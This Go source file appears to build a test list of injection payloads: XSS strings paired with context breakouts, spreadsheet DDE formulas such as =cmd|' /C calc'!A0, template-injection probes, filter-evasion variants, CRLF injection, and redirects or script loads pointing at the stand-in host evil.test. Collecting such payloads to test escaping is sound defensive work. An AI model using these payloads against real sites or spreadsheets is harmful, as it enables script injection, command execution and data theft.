package app

import "strings"

// payloads are names that somebody would give a thing so that a browser, a spreadsheet or a template does something on reading it:
// each way out of where a text may stand, with each thing that may come behind it, and what needs no way out.
func payloads() []string {
	out := strings.Split(strings.TrimSpace(others), "\n")
	for _, way := range []string{``, `">`, `'>`, "`>", `</title>`, `</textarea>`, `</script>`, `-->`, `]]>`, `&quot;&gt;`, `\u0022\u003e`, `%22%3E`, `</option></select>`, `" `, `' `, `\">`} {
		for _, what := range []string{
			`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
			`<iframe src=javascript:alert(1)>`, `<a href=javascript:alert(1)>x</a>`, `<form action=//evil.test><input name=p>`, `<base href=//evil.test/>`,
			`<style>*{x:url(//evil.test)}</style>`, `<meta http-equiv=refresh content=0;//evil.test>`, `<math><mi xlink:href=javascript:alert(1)>`, `<div hx-get=//evil.test hx-trigger=load>`,
			`<object data=javascript:alert(1)>`, `<link rel=stylesheet href=//evil.test>`, `<body onload=alert(1)>`, `<details open ontoggle=alert(1)>`,
			`onmouseover=alert(1) x=`, `autofocus onfocus=alert(1) x=`, `style=x:expression(1) x=`, `<xss id=x tabindex=1 onfocus=alert(1)>`,
		} {
			out = append(out, way+what)
		}
	}
	return out
}

const others = `
=1+1
=HYPERLINK("http://evil.test","x")
=cmd|' /C calc'!A0
+1+cmd|' /C calc'!A0
-1+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
=IMPORTXML("//evil.test","x")
=1;=2
javascript:alert(1)
JaVaScRiPt:alert(1)
java&Tab;script:alert(1)
vbscript:msgbox(1)
data:text/html,<script>alert(1)</script>
//evil.test
/\evil.test
https://evil.test@127.0.0.1
{{7*7}}
{{constructor.constructor('alert(1)')()}}
${7*7}
<%= 7*7 %>
#{7*7}
{%print(7)%}
{ children... }
@templ.Raw("<script>")
{! raw !}
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<ScRiPt>alert(1)</sCrIpT>
<script/x>alert(1)</script>
<img/src=x/onerror=alert(1)>
<img src=x:x onerror=alert(1)//
<svg/onload=alert(1)
＜script＞alert(1)＜/script＞
‹script›alert(1)‹/script›
ʺ onmouseover=alert(1)
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;script&#x3e;
\x3cscript\x3ealert(1)
+ADw-script+AD4-alert(1)
<!--#exec cmd="ls"-->
<?xml version="1.0"?><x/>
<![CDATA[<script>alert(1)</script>]]>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<template><script>alert(1)</script></template>
%3Cscript%3Ealert(1)%3C/script%3E
%0d%0aSet-Cookie:x=y
"};alert(1);//
';alert(1);//
</script><script src=//evil.test/x.js></script>
`
